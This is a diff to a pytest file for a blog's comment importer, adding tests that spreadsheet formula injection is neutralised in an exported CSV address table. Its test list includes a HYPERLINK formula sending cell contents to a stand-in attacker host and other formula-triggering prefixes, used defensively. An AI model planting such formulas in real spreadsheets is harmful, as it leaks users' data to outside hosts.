@@ -1,5 +1,6 @@
 """Comments from elsewhere: each system's file, what is wrong with files, and what stays when it ends early."""
 
+import csv
 import gzip
 import json
 import re
@@ -19,6 +20,7 @@ from blog.comments.pins import CommentPin
 from blog.comments.queue import Choice
 from blog.errors import Conflict, FileError, NotFound
 from blog.imports import Kind, Report, Wish, formats, storing, streams
+from blog.imports.placing import read_map
 from blog.imports.storing import CommentImport
 from blog.markup import SourceFormat
 from blog.outbox import FileTransport, OutgoingMail
@@ -408,6 +410,37 @@ def test_a_table_of_addresses_is_written_filled_in_and_read(tmp_path: Path) -> N
     table.write_text("\n".join(lines).replace("about,,", f"about,{ARTICLE},"))
     run(DATA / "disqus.xml", map_path=table)
     assert named()["Zola"].article_id == ARTICLE
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A2,"open")',
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "'=1",
+    "'quoted",
+]
+
+
+@pytest.mark.parametrize("address", FORMULAS)
+def test_no_address_is_a_formula_in_the_table_and_each_is_read_again(
+    tmp_path: Path, address: str
+) -> None:
+    path, table = disqus(tmp_path, post(1)), tmp_path / "pages.csv"
+    known = address.replace("&", "&amp;")
+    path.write_text(path.read_text().replace("https://old.example/" + SECOND, known))
+    run(path, is_dry=True, write_to=table)
+    with table.open(newline="") as file:
+        _, (shown, *_) = csv.reader(file)
+    assert shown == f"'{address}"
+    table.write_text(table.read_text().replace(",,", f",{ARTICLE},"))
+    assert run(path, map_path=table).pages == [(address, ARTICLE, 1)]
+
+
+def test_an_address_is_read_as_it_was_typed_into_the_table(tmp_path: Path) -> None:
+    table = tmp_path / "pages.csv"
+    table.write_text(f"=1 , {ARTICLE}\n'quoted,{ARTICLE}\n")
+    assert read_map(table) == {"=1": ARTICLE, "'quoted": ARTICLE}
 
 
 @pytest.mark.parametrize(
